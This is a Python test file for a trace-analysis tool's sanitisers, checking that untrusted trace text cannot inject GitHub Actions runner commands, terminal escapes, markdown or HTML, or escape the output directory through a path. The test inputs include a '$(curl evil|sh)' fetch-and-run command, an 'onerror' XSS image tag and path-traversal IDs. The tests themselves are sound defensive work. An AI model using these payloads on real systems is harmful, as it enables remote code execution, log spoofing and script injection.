"""Trace text and model output are untrusted in every channel: the log, the comment, outputs, paths."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest

from refinery.analysis.orchestrator import offline_result
from refinery.documents.redact import Redactor
from refinery.github.commands import Log
from refinery.github.publisher import Annotation
from refinery.lines import printable_line, strip_ansi
from refinery.pipeline import prepare
from refinery.planner.analyse import path_slug, trace_dir_name
from refinery.report.artifacts import write_artifacts
from refinery.report.merge import load_entries
from refinery.report.sanitize import fenced, inline_code, plain_line, prose, sanitize_markdown
from tests.builders import TraceBuilder
from tests.unit.test_comment import outside_code

HOSTILE_DIR = Path(__file__).resolve().parents[1] / "hostile"
ANSI = "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J"
RUNNER_COMMANDS = "\n::error file=app.py,line=1::pwned\n  ::add-mask::hidden\n::stop-commands::tok\n##[warning]old"


def runner_commands(log: str) -> list[str]:
    """Each line the Actions runner would execute: ``::`` after leading whitespace (or ``##[``)."""
    return [line.strip() for line in log.splitlines() if line.lstrip().startswith(("::", "##["))]


def test_printable_line_is_one_inert_line() -> None:
    line = printable_line(f"trace {RUNNER_COMMANDS} {ANSI}")
    assert "\n" not in line and "\r" not in line
    assert "::" not in line and "##[" not in line
    assert "\x1b" not in line and "\x9b" not in line and "red link" in line


def test_strip_ansi_keeps_text_and_line_breaks() -> None:
    assert strip_ansi("a\x1b[1;32mb\x1b[0m\nc\x00d\x07") == "ab\ncd"


def test_log_lines_cannot_start_runner_commands_and_are_redacted() -> None:
    out = io.StringIO()
    log = Log(out, Redactor(known_secrets=["configured-key-value"]))
    log.mask("configured-key-value")
    log.info(f"[1/1 \n::error::spoof] selected: {RUNNER_COMMANDS} configured-key-value sk-proj-{'a' * 30}")
    log.warning(f"trace failed: {RUNNER_COMMANDS} password=hunter2")
    with log.group(f"collecting {RUNNER_COMMANDS}"):
        log.error(ANSI)
    text = out.getvalue()
    commands = runner_commands(text)
    # Only our own commands, with nothing of the trace text able to choose their name or properties.
    assert [c.split("::")[1].split(" ")[0] for c in commands] == ["add-mask", "warning", "group", "error", "endgroup"]
    assert commands[0] == "::add-mask::configured-key-value"  # the one line that must carry the secret
    body = text.split("\n", 1)[1]
    assert "configured-key-value" not in body and "hunter2" not in body and "sk-proj-" not in body
    assert "\x1b" not in text and "pwned" in text  # shown, but inert


def test_the_comment_sanitizer_breaks_cross_references_images_and_escapes() -> None:
    text = prose(f"see #12, octo/repo#45 and GH-7 ![pixel](https://github.com/o/r/raw/p.png) {ANSI}")
    assert not re.search(r"(?<!&)#\d|GH-\d", text)
    assert "#\u200b12" in text and "octo/repo#\u200b45" in text
    assert "![" not in text and "pixel" in text  # an image is dropped even from an allowed host
    assert "\x1b" not in text and "\x9b" not in text
    for rendered in (inline_code(ANSI), fenced(ANSI)):
        assert "\x1b" not in rendered and "\x9b" not in rendered


def test_plain_line_leaves_nothing_a_shell_would_run() -> None:
    hostile = (
        "3 traces: `id`; $(curl evil|sh) && echo 'x' \"y\" > /tmp/z < in {a,b} [c] ~ * ? ! \\ @team #9\n::error::x"
    )
    line = plain_line(hostile)
    assert not set(line) & set("`$;&|'\"<>(){}[]~*?!\\\n@")
    assert "::" in line.replace("\u200b", "") or "error" in line  # words kept, commands inert in a log anyway
    assert "#\u200b9" in line


def test_ids_in_paths_become_slugs_confined_to_the_output_directory(tmp_path: Path) -> None:
    for hostile in ("/../../x", "..", "a/b\\c", "\x00nul", "\n::error::x", ""):
        slug = path_slug(hostile)
        assert re.fullmatch(r"[A-Za-z0-9_-]+", slug), (hostile, slug)
    trace = TraceBuilder().build(trace_id="/../../escape")
    out = tmp_path / "out"
    artifacts = write_artifacts(offline_result(prepare(trace)), out / trace_dir_name(1, trace))
    assert artifacts.out_dir.resolve().parent == out.resolve()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


def test_annotations_carry_no_escape_sequences() -> None:
    payload = Annotation(
        path="a.py", start_line=1, end_line=1, annotation_level="warning", title=f"t\n{ANSI}", message=ANSI
    ).payload()
    assert "\x1b" not in json.dumps(payload) and "\n" not in payload["title"]


def test_a_merged_report_md_is_untrusted_markdown(tmp_path: Path) -> None:
    trace = TraceBuilder(root_name="agent\n<img src=x onerror=alert(1)> @octocat #1").build()
    result = offline_result(prepare(trace))
    with_report = tmp_path / "a"
    write_artifacts(result, with_report)
    (with_report / "report.md").write_text(
        "# Refinery report\n\n<img src=x onerror=alert(1)>\n![p](https://github.com/p.png) @octocat fixes #3\n```\nopen"
    )
    without = tmp_path / "b"
    write_artifacts(result, without)
    (without / "report.md").unlink()
    for entry in load_entries([str(with_report), str(without)], tmp_path):
        outside = outside_code(entry.report)
        assert "<img" not in outside and "![" not in outside and "@octocat" not in outside
        assert not re.search(r"(?<!&)#\d", outside)
        assert entry.report.count("```") % 2 == 0


@pytest.mark.parametrize("name", ["langsmith", "otlp", "chat", "history", "refinery"])
def test_hostile_files_are_kept_small(name: str) -> None:
    assert (HOSTILE_DIR / "planted" / f"{name}.json").stat().st_size < 32_000


def test_sanitize_markdown_closes_an_open_fence_and_keeps_layout() -> None:
    text = sanitize_markdown("- a\n  - b <b>\n```\ncode <b>")
    assert text.splitlines()[1] == "  - b &lt;b&gt;" and text.endswith("```") and "code <b>" in text
